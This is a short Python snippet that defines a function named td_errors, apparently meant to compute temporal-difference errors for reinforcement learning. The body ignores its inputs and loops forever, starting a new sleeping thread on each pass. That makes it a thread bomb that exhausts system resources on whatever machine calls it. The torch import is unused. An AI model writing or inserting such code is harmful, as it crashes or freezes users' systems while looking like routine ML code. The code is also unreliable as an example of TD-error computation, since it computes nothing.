import threading
import time

import torch


def td_errors(rewards, values, dones, gamma=0.99):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
